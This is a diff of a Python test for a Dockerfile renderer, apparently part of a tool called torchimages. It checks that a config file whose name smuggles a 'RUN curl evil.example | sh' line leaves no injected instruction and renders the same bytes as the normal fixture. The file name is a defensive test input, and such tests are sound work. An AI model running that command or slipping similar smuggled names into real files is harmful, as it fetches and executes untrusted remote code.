@@ -77,13 +77,16 @@ def test_context_tar_is_byte_identical_and_normalised() -> None:
     assert {(m.mtime, m.uid, m.gid, m.uname) for m in members} == {(0, 0, 0, "")}
 
 
-def test_a_config_file_name_cannot_add_dockerfile_instructions(tmp_path: Path) -> None:
+def test_the_dockerfile_does_not_depend_on_the_config_files_name_or_place(tmp_path: Path) -> None:
+    """The same entry read from another file (a test's own matrix, a clone elsewhere, a hostile name that holds a RUN
+    line) renders the same bytes, so its build hash is the same and a verified image is reused, not rebuilt."""
     from torchimages.matrix import load_matrix
     from torchimages.render import render_dockerfile
 
+    fixture = Path(__file__).parents[2] / "tests" / "fixtures" / "images.yaml"
     hostile = tmp_path / "x\nRUN curl evil.example | sh\n#.yaml"
-    hostile.write_text((Path(__file__).parents[2] / "tests" / "fixtures" / "images.yaml").read_text())
-    matrix = load_matrix(hostile)
-    text = render_dockerfile(matrix.images[0], wheel_port=matrix.wheel_port)
-    assert not any(line.startswith("RUN curl") for line in text.splitlines())
-    assert "x\\nRUN curl evil.example | sh\\n#.yaml" in text.splitlines()[0]
+    hostile.write_text(fixture.read_text())
+    for theirs, ours in zip(load_matrix(hostile).images, load_matrix(fixture).images, strict=True):
+        text = render_dockerfile(theirs, wheel_port=8731)
+        assert not any(line.startswith("RUN curl") for line in text.splitlines())
+        assert text == render_dockerfile(ours, wheel_port=8731)
